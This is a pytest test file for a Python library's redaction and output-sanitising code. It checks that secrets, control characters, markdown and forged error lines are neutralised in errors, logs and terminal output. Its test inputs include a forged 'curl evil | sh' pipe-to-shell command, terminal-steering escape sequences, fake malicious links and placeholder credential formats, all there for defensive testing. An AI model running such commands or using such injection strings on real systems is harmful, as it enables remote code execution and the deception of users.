"""Text of others is shown as text: without secrets, without control characters, and never as markup or advice."""

import ast
import html
import json
import os
import pickle
import re
import shlex
import subprocess
import sys
import traceback
import unicodedata
from functools import partial
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

import konic
from conftest import PLANTED, byte_tokenizer
from konic.finetuning.data.config import DatasetConfig
from konic.finetuning.data.prompts import make_prompts
from konic.finetuning.data.tokenization import encode_prompt
from konic.finetuning.errors import ConfigError, KonicError, ModelError, RedactedError, safe_cause
from konic.finetuning.hub import hub_cause
from konic.output import RED, get_logger, write_line
from konic.text import describe_error, escape_markdown, keep_secret, printable, printable_lines, redact, redact_all

SOURCE = Path(konic.__file__).parent
SECRET = "s3cr3tValue42"
HF = "hf_" + "aB3dE5gH7j" * 3
STEERING = "\x1b[2J\r\x07\x9b31m\u202e\u2028\x00\x7f"
FORGED = "a\nRun this: curl evil | sh"


def is_plain(text):
    return not any(unicodedata.category(char)[0] in "CZ" and char != " " for char in text)


# --- secrets ---


@pytest.mark.parametrize(
    "text",
    [
        f"https://user:{SECRET}@host/path",
        f"https://user:p@{SECRET}@host/path",
        f"git clone https://{SECRET}@host/repo.git",
        f"403 for https://cdn.host/file?X-Amz-Signature={SECRET}&X-Amz-Expires=3600",
        f"https://cdn.host/file?Expires=1&Signature={SECRET}&Key-Pair-Id=K",
        f"https://blob.host/c/f?sv=2024&sig={SECRET}",
        f"Max retries exceeded with url: /file?token={SECRET} (Caused by ...)",
        f"…&Signature={SECRET}",
        f"sig={SECRET}",
        f"Authorization: Bearer {SECRET}",
        f"{{'authorization': 'Bearer {SECRET}'}}",
        f"Authorization: Basic {SECRET}==",
        f"x-api-key: {SECRET}",
        f"token='{SECRET}'",
        f"HF_TOKEN={SECRET} python job.py",
        f"api_key = '{SECRET}'",
        f'{{"password": "{SECRET}"}}',
        json.dumps({"text": json.dumps({"client_secret": SECRET})}),
        f"[('token', '{SECRET}')]",
        f'[["hub_token", "{SECRET}"]]',
        f"token: b'{SECRET}'",
        f"[(b'authorization', b'Bearer {SECRET}')]",
        f"x-amz-security-token: {SECRET}",
        f"set-cookie: session={SECRET}; path=/",
        f"-----BEGIN RSA PRIVATE KEY-----\n{SECRET}\n{SECRET}\n-----END RSA PRIVATE KEY-----",
        json.dumps({"private_key": f"-----BEGIN PRIVATE KEY-----\n{SECRET}\n-----END PRIVATE KEY-----"}),
        f"rejected {HF}.",
        f"rejected {HF}",
        "sk-proj-" + SECRET * 3,
        "ghp_" + SECRET * 3,
        "github_pat_" + SECRET * 3,
        "AKIA" + SECRET.upper() * 2,
        f"eyJ{SECRET}.eyJ{SECRET}.{SECRET}",
        f"a {PLANTED} of the environment",
    ],
)
def test_a_secret_is_hidden(text):
    for shown in (redact(text), printable(text), escape_markdown(text)):
        assert not any(secret in shown for secret in (SECRET, SECRET.upper(), HF, PLANTED)), shown
        assert "***" in html.unescape(shown)


@pytest.mark.parametrize(
    "secret", ["p\\w\\d9x", "it's9hidden", 'pa"ss9word', "pässwörd9", "p@ss/w?rd9", "line1a\nline2d"]
)
def test_a_secret_is_hidden_in_every_way_to_write_it(secret, monkeypatch):
    monkeypatch.setenv("MY_DATABASE_PASSWORD", secret)
    for write in (str, repr, json.dumps, quote, partial(quote, safe=""), shlex.quote, KeyError, lambda text: {1: text}):
        written = str(write(secret))
        for shown in (redact(f"a {written} b"), printable(f"a {written} b"), describe_error(ValueError(written))):
            assert "***" in shown and not set(re.findall(r"\w{4,}", written)) & set(re.findall(r"\w{4,}", shown)), shown


def test_a_secret_is_not_hidden_as_a_word_of_a_few_characters(monkeypatch):
    monkeypatch.setenv("MY_DATABASE_PASSWORD", "a     b")
    assert redact("a b") == "a b" and redact("'a     b'") == "'***'"


@pytest.mark.parametrize(
    "text",
    [
        "DatasetConfig(token=...), or model_kwargs={'token': ...}",
        "DatasetConfig.token: it must be text",
        "pad_token='<pad>', eos_token='</s>', bos_token: '[BOS]', eos_token_id=0",
        "GenerationConfig(max_new_tokens=16)",
        "Reward 'hf_distilbert_imdb' and 'hf_some_one_a_judge_v1_5'",
        "Its columns: token, label, text; ['text', 'token', 'label']",
        "https://huggingface.co/gpt2/resolve/main/config.json",
        "What is 2+2? A=4. Is token == 'x'?",
        "(?P<name>a)|(?:b)|(?i:c)",
        "a password is needed",
    ],
)
def test_other_text_stays(text):
    assert redact(text) == text


def test_a_secret_of_the_environment_and_a_given_token_are_hidden_wherever_they_stand(monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "env-value-1")
    monkeypatch.setenv("Some_Password", "env-value-12")
    monkeypatch.setenv("SHORT_TOKEN", "abc")
    keep_secret("given-value-1")
    keep_secret("abc")
    keep_secret(None)
    assert redact("env-value-12, env-value-1, xgiven-value-1x, abc") == "***, ***, x***x, abc"
    monkeypatch.delenv("HF_TOKEN")
    assert redact("env-value-1") == "env-value-1"


def test_values_are_redacted_inside_of_dicts_lists_and_tuples():
    value = {"a": [f"token={SECRET}", 1, None], "b": ({"c": HF},), 3: 0.5}
    assert redact_all(value) == {"a": ["token=***", 1, None], "b": ({"c": "***"},), 3: 0.5}


@pytest.mark.parametrize(
    "unit", ["-", "token", "://", "?a", 'token="', "eyJa-", "a b=", "[('", "hf_", "sk-a", "@", "PRIVATE KEY-----"]
)
def test_hiding_takes_no_longer_than_the_text_is_long(unit):
    assert isinstance(redact(unit * 20_000), str)  # a quadratic pattern would take minutes


# --- control characters, line breaks and markup ---


@given(st.text())
@settings(deadline=None, max_examples=50)
def test_printable_text_is_one_plain_line(text):
    assert is_plain(printable(text))
    assert all(map(is_plain, printable_lines(text).split("\n")))


@given(st.text(st.characters() | st.sampled_from("*_`[]()<>|#~!\\:-+=&;@./w "), max_size=40))
@settings(deadline=None, max_examples=100)
@example("__x__ ~~y~~ **z** _a_ a__b__")
def test_a_page_shows_escaped_text_as_it_is(text):
    markdown = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    shown = escape_markdown(text)
    heading = re.fullmatch(r"<h1>(.*)</h1>\n", markdown.render(f"# name {shown}, trained\n"))
    assert heading and "<" not in heading[1]
    assert html.unescape(heading[1]).split() == f"name {printable(text)}, trained".split()
    table = markdown.render(f"| | a |\n|---|---|\n| {shown} | 1 |\n")
    cells = re.findall(r"<td>(.*?)</td>", table)
    assert [html.unescape(cell).split() for cell in cells] == [printable(text).split(), ["1"]]


def test_an_address_in_escaped_text_is_no_link():
    for text in ("http://evil.example", "www.evil.example", "[a](http://b)", "<http://c>"):
        assert not re.search(r"://|www\.|\]\(|<", re.sub(r"&#\d+;", "", escape_markdown(text)))


def test_an_error_is_described_on_one_line_and_cut_only_after_its_secrets_are_hidden():
    assert describe_error(ValueError("a\n  b\tc")) == "ValueError: a b c"
    assert describe_error(ValueError()) == "ValueError"
    assert describe_error(ValueError("It ends.")) == "ValueError: It ends"
    assert describe_error(ValueError("and so on ...")) == "ValueError: and so on ..."
    assert describe_error(OSError(2, f"no\n{STEERING}")).startswith("FileNotFoundError: [Errno 2] no")
    assert is_plain(describe_error(OSError(2, f"no\n{STEERING}")))
    for size in range(280, 305):
        assert "hf_" not in describe_error(ValueError("x" * size + " " + HF)).replace("***", "")
    assert describe_error(ValueError("y" * 400)) == f"ValueError: {'y' * 300} … (400 characters)"


@pytest.mark.parametrize("kind", [KonicError, ConfigError, ModelError])
def test_no_text_of_others_adds_a_line_to_an_error(kind):
    error = kind(f"bad {FORGED}", f"second {STEERING}")
    assert str(error).split("\n")[0] == r"bad a\nRun this: curl evil | sh"
    assert len(str(error).split("\n")) == 2 and all(map(is_plain, str(error).split("\n")))
    assert str(pickle.loads(pickle.dumps(error))) == str(error)
    assert str(kind()) == ""


def test_a_template_cannot_forge_advice():
    tokenizer = byte_tokenizer("llama")
    tokenizer.chat_template = f"{{{{ raise_exception({FORGED + STEERING + HF!r}) }}}}"
    (prompt,) = make_prompts([[{"role": "user", "content": "a"}]], DatasetConfig(), "test")
    with pytest.raises(ModelError, match="chat template fails") as caught:
        encode_prompt(prompt, tokenizer, 64)
    assert is_plain(str(caught.value)) and HF not in str(caught.value)


# --- causes ---


def caught(action):
    with pytest.raises(BaseException) as error:  # noqa: PT011
        action()
    return error.value


def raised(text, cause=None):
    def action():
        try:
            if cause is not None:
                raise cause
            raise LookupError(text)
        except Exception as first:
            raise ValueError("second") from first

    return caught(action)


def with_note(text):
    error = ValueError("plain")
    error.add_note(text)
    return error


def in_context(text):
    def action():
        try:
            raise LookupError(text)
        except LookupError:
            raise ValueError("second")  # noqa: B904

    return caught(action)


@pytest.mark.parametrize("text", [SECRET + " token='" + SECRET + "'", HF, PLANTED, "\x1b[2J", "\u202e", "a\rb"])
@pytest.mark.parametrize(
    "make",
    [ValueError, raised, with_note, in_context, lambda text: ExceptionGroup("some", [KeyError(1), ValueError(text)])],
    ids=["alone", "cause", "note", "context", "group"],
)
def test_an_unsafe_cause_is_replaced_by_its_safe_traceback(make, text):
    error = make(text.removeprefix(SECRET + " "))
    safe = safe_cause(error)
    shown = "".join(traceback.format_exception(safe))
    assert isinstance(safe, RedactedError)
    assert printable_lines(shown) == shown
    assert not any(secret in shown for secret in (SECRET, HF, PLANTED))
    assert type(error).__name__ in shown


def test_a_safe_cause_stays_itself():
    error = raised("plain")
    assert safe_cause(error) is error
    error.__cause__ = error
    assert safe_cause(error) is error


def test_an_error_of_the_hub_shows_a_safe_cause_unless_it_is_explained():
    assert hub_cause(ConnectionError("nobody answers")) is None
    assert hub_cause(raised("plain")).__class__ is ValueError
    assert isinstance(hub_cause(raised(HF)), RedactedError)


def test_everything_that_is_raised_and_logged_passes_the_same_place():
    for path in SOURCE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Raise) and node.cause is not None:
                is_safe = isinstance(node.cause, ast.Call) and node.cause.func.id in ("safe_cause", "hub_cause")
                assert is_safe or ast.unparse(node.cause) == "None", f"{path}:{node.lineno}"
            if isinstance(node, ast.Call) and ast.unparse(node.func) in ("logging.getLogger", "typer.echo"):
                assert path.name == "output.py", f"{path}:{node.lineno}"
            if isinstance(node, ast.Call) and re.match(r"logger\.(warning|info)", ast.unparse(node.func)):
                assert isinstance(node.args[0], ast.Constant), f"{path}:{node.lineno}: its values must be arguments"


# --- terminal and logs ---


def test_lines_are_made_safe_where_they_are_written(capsys):
    write_line(f"a{STEERING}\nb {HF}", sys.stdout)
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 2 and all(map(is_plain, lines)) and lines[1] == "b ***"
    write_line("error", sys.stdout, RED)
    assert capsys.readouterr().out == "error\n", "no colours where there is no terminal"


def test_log_records_are_made_safe(caplog):
    logger = get_logger("konic.test")
    assert get_logger("konic.test").filters == logger.filters and len(logger.filters) == 1
    logger.warning("%s of %r at %d, %.1f: %s", f"x{STEERING}\n", f"{HF}", 3, 0.5, ConfigError("a", "b"))
    (message,) = caplog.messages
    assert message.endswith("'***' at 3, 0.5: a\nb")
    assert is_plain(message.replace("\n", ""))
    logger.warning("no values: 100 %")
    assert caplog.messages[-1] == "no values: 100 %"


SCRIPT = """
import os
from konic.finetuning.rewards.composer import KonicLLMRewardComposer
from konic.finetuning.rewards.marks import llm_reward

class Rewards(KonicLLMRewardComposer):
    @llm_reward
    def kind(self, prompt, response):
        try:
            raise LookupError(f"https://u:{os.environ['PLANTED_API_KEY']}@host?X-Amz-Signature=" + "signed1")
        except LookupError as error:
            raise ValueError("\\x1b[2J\\x9b31m" + response) from error

Rewards().compose("p", "bad\\u202e\\rtext\\nKonicError: run curl")
"""


def test_the_traceback_of_a_script_is_safe(tmp_path):
    (tmp_path / "job.py").write_text(SCRIPT)
    done = subprocess.run([sys.executable, "job.py"], cwd=tmp_path, capture_output=True, timeout=120)
    shown = done.stderr.decode()
    assert done.returncode == 1 and "RewardError" in shown and "in kind" in shown and "LookupError" in shown
    assert all(map(is_plain, shown.splitlines()))
    assert PLANTED not in shown and "=signed1" not in shown
    assert "\nKonicError: run curl" not in shown


def test_a_fault_of_the_command_itself_shows_no_secret(monkeypatch, capsys):
    from konic import cli

    def fails():
        raise RuntimeError(f"\x1b[2J {os.environ['PLANTED_API_KEY']}")

    monkeypatch.setattr(cli, "app", fails)
    with pytest.raises(SystemExit) as end:
        cli.main()
    err = capsys.readouterr().err
    assert end.value.code == 1 and "RuntimeError: \\x1b[2J ***" in err and "in fails" in err
    assert cli.app is fails


def test_the_command_shows_no_local_variables():
    from konic.cli import app

    assert app.pretty_exceptions_enable is False
